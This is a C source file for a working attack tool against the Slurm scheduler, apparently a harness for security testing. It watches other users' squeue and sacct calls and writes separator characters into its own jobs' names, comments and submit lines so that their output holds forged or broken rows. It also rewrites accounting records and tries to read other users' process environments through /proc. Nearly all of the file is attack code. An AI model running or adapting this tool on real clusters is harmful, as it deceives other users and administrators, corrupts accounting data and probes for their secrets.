/* A hostile user's program: forges rows in the answers that another account gets from Slurm.
 *
 * It watches /proc for squeue and sacct, takes what their command lines tell of fields and
 * separator, and at once writes rows made of these into the names, comments and submit lines of its
 * user's own jobs. Its user is whoever runs it. forger.py writes its orders:
 *
 *   separators 1f 7c 0a 09     (hex) written all the time, by a thread of its own
 *   fields FIELD,...           of the command whose line does not show them
 *   cluster NAME
 *   decoy ID                   a pending job of the user's, for that thread
 *   target ID<TAB>FIELD=VALUE<TAB>...
 *                              a pending job of the user's, and the row that it is to forge; without
 *                              a row its texts hold the separator alone, at every second call: that
 *                              breaks all rows
 *
 * forger ORDERS REPORT: on SIGTERM it writes what it did to REPORT, as JSON.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <slurm/slurm.h>
#include <slurm/slurm_errno.h>
#include <slurm/slurmdb.h>

#include "forger_texts.h"

/* libslurm has them, its headers do not. */
extern slurmdb_job_rec_t *slurmdb_create_job_rec(void);
extern void slurm_xfree(void **);

typedef struct {
    uint32_t job;
    char *row; /* FIELD=VALUE, parted by tabs */
} Target;

static Target targets[MOST];
static int target_count;
static uint32_t decoy;
static char *default_fields = "", *cluster = "";
static char constants[MOST][8];
static int constant_count;

static atomic_long seen_squeue, seen_sacct, separators, updates, records, refused, submissions;
static atomic_long environ_read, environ_refused;

static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t news = PTHREAD_COND_INITIALIZER;
static Call current;
static long generation;
static volatile sig_atomic_t ended;

static void rewrite(uint32_t job, char *name, char *comment)
{
    job_desc_msg_t wish;
    slurm_init_job_desc_msg(&wish);
    wish.job_id = job;
    wish.name = name;
    wish.comment = comment;
    atomic_fetch_add(slurm_update_job(&wish) == SLURM_SUCCESS ? &updates : &refused, 1);
}

/* The submit line is written once, so it takes a job anew; its end brings its comment to accounting. */
static void submit(char *name, char *comment, char *line)
{
    char *environment[] = {"PATH=/bin", NULL};
    submit_response_msg_t *answer = NULL;
    job_desc_msg_t wish;
    slurm_init_job_desc_msg(&wish);
    wish.name = name;
    wish.comment = comment;
    wish.submit_line = line;
    wish.script = "#!/bin/sh\n";
    wish.environment = environment;
    wish.env_size = 1;
    wish.work_dir = "/tmp";
    wish.std_out = "/dev/null";
    wish.user_id = getuid();
    wish.group_id = getgid();
    wish.min_cpus = wish.num_tasks = 1;
    wish.time_limit = 5;
    wish.min_nodes = wish.max_nodes = 2; /* which are taken: it is eligible, and waits */
    wish.shared = 0;
    if (slurm_submit_batch_job(&wish, &answer) != SLURM_SUCCESS) {
        atomic_fetch_add(&refused, 1);
        return;
    }
    atomic_fetch_add(&submissions, 1);
    slurm_kill_job(answer->job_id, SIGKILL, 0);
    slurm_free_submit_response_response_msg(answer);
}

static long next_call(long known, Call *call)
{
    pthread_mutex_lock(&lock);
    while (generation == known)
        pthread_cond_wait(&news, &lock);
    *call = current;
    known = generation;
    pthread_mutex_unlock(&lock);
    return known;
}

static void *strike(void *given)
{
    Target *target = given;
    char name[TEXT], comment[TEXT];
    Call call;
    for (long known = 0;;) {
        known = next_call(known, &call);
        if (*target->row == '\0' && known % 2 == 0)
            continue;
        rewrite(target->job, text_for(&call, target->row, "JobName", "Name", name),
                text_for(&call, target->row, "Comment", "Comment", comment));
    }
    return NULL;
}

static void *strike_anew(void *given)
{
    char name[TEXT], comment[TEXT], line[TEXT];
    Call call;
    for (long known = 0, turn = 0;;) {
        known = next_call(known, &call);
        if (!call.accounting || target_count == 0)
            continue;
        const char *row = targets[turn++ % target_count].row;
        submit(text_for(&call, row, "JobName", "Name", name),
               text_for(&call, row, "Comment", "Comment", comment),
               text_for(&call, row, "SubmitLine", "SubmitLine", line));
    }
    return given;
}

/* What `sacctmgr modify job` does: users may write their own jobs' comments in the accounting. */
static void rewrite_record(void *accounting, uint32_t job, char *comment)
{
    slurm_selected_step_t which = {NO_VAL, NO_VAL, {.job_id = job, .step_id = NO_VAL, .step_het_comp = NO_VAL}};
    slurmdb_job_cond_t where = {.flags = JOBCOND_FLAG_NO_DEFAULT_USAGE, .db_flags = SLURMDB_JOB_FLAG_NOTSET};
    slurmdb_job_rec_t *record = slurmdb_create_job_rec();
    where.step_list = slurm_list_create(NULL);
    where.cluster_list = slurm_list_create(NULL);
    slurm_list_append(where.step_list, &which);
    slurm_list_append(where.cluster_list, cluster);
    record->derived_es = comment;
    List changed = slurmdb_job_modify(accounting, &where, record);
    if (changed != NULL)
        slurmdb_connection_commit(accounting, true);
    atomic_fetch_add(changed != NULL ? &records : &refused, 1);
    slurm_list_destroy(where.step_list);
    slurm_list_destroy(where.cluster_list);
    slurm_xfree((void **)&record);
}

/* All rows at once: accounting takes longer comments than slurmctld does. */
static void *strike_records(void *given)
{
    uint16_t flags = 0;
    void *accounting = slurmdb_connection_get(&flags);
    char comment[LONG];
    Call call;
    for (long known = 0;;) {
        known = next_call(known, &call);
        int place = place_of(&call, "Comment", "Comment");
        if (!call.accounting || place < 0)
            continue;
        snprintf(comment, sizeof comment, "x");
        for (int i = 0; i < target_count; i++)
            if (*targets[i].row != '\0' || known % 2)
                forge(&call, targets[i].row, place, comment, sizeof comment);
        rewrite_record(accounting, targets[known % target_count].job, comment);
    }
    return given;
}

static void *bother(void *given)
{
    char name[TEXT], comment[TEXT];
    Call call = {.accounting = 0};
    take_fields(&call, strdup(default_fields));
    for (long turn = 0; constant_count > 0; turn++) {
        const char *row = targets[turn / constant_count % target_count].row;
        snprintf(call.separator, sizeof call.separator, "%s", constants[turn % constant_count]);
        /* A new name goes to accounting, which would soon hear of nothing else. */
        rewrite(decoy, turn % 50 ? NULL : text_for(&call, row, "JobName", "Name", name),
                text_for(&call, row, "Comment", "Comment", comment));
    }
    return given;
}

static ssize_t whole(const char *path, char *text, size_t size)
{
    int file = open(path, O_RDONLY);
    if (file < 0)
        return -1;
    ssize_t used = 0, got;
    while ((got = read(file, text + used, size - 1 - used)) > 0)
        used += got;
    close(file);
    text[used] = '\0';
    return used;
}

static int is_command(const char *word, const char *name)
{
    const char *slash = strrchr(word, '/');
    return strcmp(slash == NULL ? word : slash + 1, name) == 0;
}

/* What the line of a squeue or a sacct tells; 0 for any other process. */
static int told(char *line, ssize_t length, Call *call)
{
    static char kept[4][LINE], defaults[LINE];
    static int turn;
    int found = 0;
    char *fields = NULL;
    call->count = call->accounting = 0;
    call->separator[0] = '\0';
    for (char *word = line; word < line + length; word += strlen(word) + 1) {
        if (is_command(word, "squeue") || is_command(word, "sacct"))
            found = 1, call->accounting = is_command(word, "sacct");
        else if (strncmp(word, "--Format=", 9) == 0 || strncmp(word, "--format=", 9) == 0)
            fields = word + 9;
        else if (strncmp(word, "--delimiter=", 12) == 0)
            snprintf(call->separator, sizeof call->separator, "%s", word + 12);
    }
    if (!found)
        return 0;
    /* The strikers may still read the fields of the calls before. */
    char *copy = kept[turn++ % 4];
    snprintf(copy, LINE, "%s", fields != NULL ? fields : strcpy(defaults, default_fields));
    take_fields(call, copy);
    return 1;
}

/* Once it has become its account's: before that it is root's shell. */
static void pry(const char *folder, unsigned char *done)
{
    static char text[LINE];
    char path[64];
    struct stat owner;
    if (stat(folder, &owner) == 0 && owner.st_uid == 0)
        return;
    *done = 2;
    snprintf(path, sizeof path, "%s/environ", folder);
    if (whole(path, text, sizeof text) > 0)
        atomic_fetch_add(&environ_read, 1);
    else
        atomic_fetch_add(&environ_refused, 1);
}

static void look_at(const char *pid, unsigned char *done)
{
    static char line[LINE];
    char folder[32], path[64];
    struct stat owner;
    Call call;
    snprintf(folder, sizeof folder, "/proc/%s", pid);
    if (*done == 1)
        pry(folder, done);
    if (*done != 0)
        return;
    snprintf(path, sizeof path, "%s/cmdline", folder);
    ssize_t length = whole(path, line, sizeof line);
    if (length <= 0 || !told(line, length, &call))
        return;
    if (stat(folder, &owner) != 0 || owner.st_uid == getuid()) {
        *done = 2;
        return;
    }
    *done = 1;
    atomic_fetch_add(call.accounting ? &seen_sacct : &seen_squeue, 1);
    if (call.separator[0] != '\0' && (place_of(&call, "Comment", "SubmitLine") >= 0)) {
        atomic_fetch_add(&separators, 1);
        pthread_mutex_lock(&lock);
        current = call;
        generation++;
        pthread_cond_broadcast(&news);
        pthread_mutex_unlock(&lock);
    }
}

/* A process is looked at again until it is one of those: first it is the shell that becomes it. */
static void watch(void)
{
    static unsigned char done[PIDS];
    DIR *all = opendir("/proc");
    struct dirent *entry;
    while (!ended) {
        rewinddir(all);
        while ((entry = readdir(all)) != NULL) {
            long pid = isdigit(entry->d_name[0]) ? atol(entry->d_name) : 0;
            if (pid <= 0 || pid >= PIDS)
                continue;
            if (done[pid] < 2)
                look_at(entry->d_name, &done[pid]);
        }
    }
    closedir(all);
}

static void read_orders(const char *path)
{
    static char text[1 << 16];
    if (whole(path, text, sizeof text) < 0)
        exit(2);
    for (char *rest = NULL, *line = strtok_r(text, "\n", &rest); line; line = strtok_r(NULL, "\n", &rest)) {
        char *words = strchr(line, ' ');
        if (words == NULL)
            exit(2);
        *words++ = '\0';
        if (strcmp(line, "fields") == 0)
            default_fields = words;
        else if (strcmp(line, "cluster") == 0)
            cluster = words;
        else if (strcmp(line, "decoy") == 0)
            decoy = atol(words);
        else if (strcmp(line, "target") == 0) {
            char *tab = strchr(words, '\t');
            targets[target_count++] = (Target){atol(words), tab == NULL ? "" : tab + 1};
        } else
            for (char *word = strtok(words, " "); word != NULL; word = strtok(NULL, " "))
                for (size_t i = 0; i < strlen(word) / 2; i++)
                    sscanf(word + 2 * i, "%2hhx", (unsigned char *)&constants[constant_count][i]),
                        constant_count += i + 1 == strlen(word) / 2;
    }
}

static void end(int number)
{
    ended = number;
}

int main(int count, char **words)
{
    pthread_t thread;
    if (count != 3)
        return 2;
    read_orders(words[1]);
    slurm_init(NULL);
    signal(SIGTERM, end);
    for (int i = 0; i < target_count; i++)
        pthread_create(&thread, NULL, strike, &targets[i]);
    pthread_create(&thread, NULL, strike_anew, NULL);
    pthread_create(&thread, NULL, strike_records, NULL);
    if (decoy != 0)
        pthread_create(&thread, NULL, bother, NULL);
    watch();
    FILE *told = fopen(words[2], "w");
    fprintf(told, "{\"squeue\": %ld, \"sacct\": %ld, \"separators\": %ld, \"updates\": %ld, \"refused\": %ld, "
           "\"submissions\": %ld, \"records\": %ld, \"environ_read\": %ld, \"environ_refused\": %ld}\n",
           seen_squeue, seen_sacct, separators, updates, refused, submissions, records, environ_read, environ_refused);
    fclose(told);
    _exit(0);
}
